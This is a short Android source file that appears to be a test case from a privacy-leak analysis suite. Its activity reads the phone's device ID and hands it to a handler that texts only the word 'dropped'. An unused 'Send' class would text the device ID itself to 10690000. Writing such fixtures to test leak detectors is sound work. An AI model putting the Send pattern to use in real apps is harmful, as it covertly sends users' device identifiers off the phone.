package cn.privlens.suite.generic_bridge_other;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Taker taker = new Drop();
        taker.take(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
    }
    interface Taker<T> { void take(T value); }
    static class Send implements Taker<String> {
        @Override
        public void take(String value) { SmsManager.getDefault().sendTextMessage("10690000", null, value, null, null); }
    }
    static class Drop implements Taker<String> {
        @Override
        public void take(String value) { SmsManager.getDefault().sendTextMessage("10690000", null, "dropped", null, null); }
    }
}
